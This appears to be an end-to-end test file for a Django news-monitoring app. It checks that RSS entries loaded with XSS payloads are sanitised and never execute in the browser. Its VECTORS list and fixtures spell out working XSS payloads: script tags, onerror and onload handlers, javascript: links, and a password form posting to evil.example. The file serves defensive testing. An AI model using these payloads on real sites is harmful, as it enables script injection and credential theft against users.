"""Malicious feed entries, fetched and sanitised by the real pipeline, then shown in a real
browser (inbox, search snippets, item detail, note citing them): no dialog, no script,
no event handler, no Content-Security-Policy violation."""

from datetime import UTC, datetime, timedelta
from io import StringIO

import pytest
from django.core.management import call_command
from django.urls import reverse
from playwright.sync_api import expect

from tests.e2e.conftest import assert_clean, sign_in
from tests.veille.feedserver import FeedServer, rss_feed, rss_item
from veille.models import Item
from veille.services import note_create

pytestmark = [pytest.mark.e2e, pytest.mark.django_db(transaction=True, serialized_rollback=True)]

VECTORS = [
    '<script>window.__xss = "script"; alert(1)</script><p>Texte</p>',
    '<img src="x" onerror="window.__xss = \'img\'; alert(2)">',
    "<a href=\"javascript:window.__xss='link';alert(3)\">cliquez</a>",
    '<a href="JaVaScRiPt:alert(4)">variante</a>',
    '<svg onload="window.__xss=\'svg\';alert(5)"><circle r="4"/></svg>',
    '<iframe src="javascript:alert(6)"></iframe><iframe srcdoc="<script>alert(7)</script>">',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%" onclick="alert(8)">x</div>',
    '<form action="https://evil.example/"><input name="password"><button>Envoyer</button></form>',
    '<math><mi xlink:href="javascript:alert(9)">m</mi></math>',
    '<details open ontoggle="alert(10)">d</details><body onload="alert(11)">',
    '"><script>alert(12)</script><p onmouseover="alert(13)">survol</p>',
    '<img src="data:image/svg+xml,<svg onload=alert(14)>"><object data="x.swf"></object>',
]


@pytest.fixture
def malicious_feed(settings):
    # The theme menu needs the reference data, whatever ran before in this session.
    call_command("load_reference_data", verbosity=0)
    settings.VEILLE_FETCH_ALLOWLIST = ["127.0.0.1"]
    server = FeedServer().start()
    now = datetime.now(UTC)
    entries = [
        rss_item(
            title=f'Frontex <script>alert("titre {n}")</script> <img src=x onerror=alert({n})>',
            link=f"https://news.example.org/frontex/{n}",
            guid=f"xss-{n}",
            description=f"Frontex et les garde-côtes. {vector}",
            pub_date=now - timedelta(minutes=n),
            extra=f"<content:encoded><![CDATA[<p>Frontex</p>{vector}]]></content:encoded>",
        )
        for n, vector in enumerate(VECTORS)
    ]
    entries.append(
        rss_item(
            title="خفر السواحل الليبي يعترض <script>alert('ar')</script> مهاجرين",
            link="https://news.example.org/ar/1",
            guid="xss-ar",
            description="<p dir='rtl' onclick='alert(15)'>Frontex خفر السواحل</p>",
            pub_date=now,
        )
    )
    url = server.add("/malicious.xml", rss_feed(entries, title="Flux <script>alert(16)</script>"))
    out = StringIO()
    call_command("veille_fetch", url, stdout=out)
    yield out.getvalue()
    server.stop()


def _guard(page):
    page.dialogs = []
    page.on("dialog", lambda dialog: (page.dialogs.append(dialog.message), dialog.dismiss()))


def _assert_nothing_ran(page):
    assert page.dialogs == []
    assert page.evaluate("window.__xss === undefined")
    handlers = page.evaluate(
        """() => Array.from(document.querySelectorAll('main *')).filter(el =>
             Array.from(el.attributes).some(a => a.name.startsWith('on'))).length"""
    )
    assert handlers == 0
    assert (
        page.evaluate(
            "document.querySelectorAll('main script, main iframe, main form[action^=\"https://evil\"]').length"
        )
        == 0
    )
    assert (
        page.evaluate(
            "Array.from(document.querySelectorAll('main a[href]'))"
            ".filter(a => /^\\s*javascript:/i.test(a.getAttribute('href'))).length"
        )
        == 0
    )
    assert_clean(page)


def test_malicious_entries_never_run_in_the_browser(page, coordinator, malicious_feed):
    assert '"error": null' in malicious_feed
    assert Item.objects.count() == len(VECTORS) + 1
    item = Item.objects.order_by("pk").first()
    note = note_create(
        author=coordinator,
        title='Note <img src=x onerror=alert("note")>',
        body=f"Voir [@{item.pk}] <script>alert('md')</script> [x](javascript:alert(1))",
        cited_items=[item],
    )
    _guard(page)
    sign_in(page, coordinator.username)

    for url in (
        reverse("veille:inbox"),
        reverse("veille:inbox") + "?q=Frontex&status=all",
        reverse("veille:inbox") + "?q=خفر+السواحل&status=all",
        reverse("veille:note_detail", args=[note.pk]),
        reverse("veille:note_citations", args=[note.pk]) + "?q=Frontex",
        reverse("influence:dashboard"),
    ):
        # goto waits for the load event: every image has failed or loaded by then, every
        # script has run (no page here fetches more on load; the menus below do, awaited).
        page.goto(page.base_url + url)
        _assert_nothing_ran(page)

    for pk in Item.objects.values_list("pk", flat=True):
        page.goto(page.base_url + reverse("veille:item_detail", args=[pk]))
        _assert_nothing_ran(page)

    # The titles are shown as text, highlighted, and the menus load without running anything.
    page.goto(page.base_url + reverse("veille:inbox") + "?q=Frontex&status=all")
    expect(page.locator(".story-title mark", has_text="Frontex").first).to_be_visible()
    expect(page.locator("[data-story]")).to_have_count(len(VECTORS) + 1)
    row = page.locator("[data-story]").first
    row.locator("details.menu-details summary", has_text="Thèmes").click()
    row.get_by_role("button", name="Détention").wait_for()
    row.locator("details.menu-details summary", has_text="Importance").click()
    row.get_by_role("button", name="Majeure").wait_for()
    _assert_nothing_ran(page)
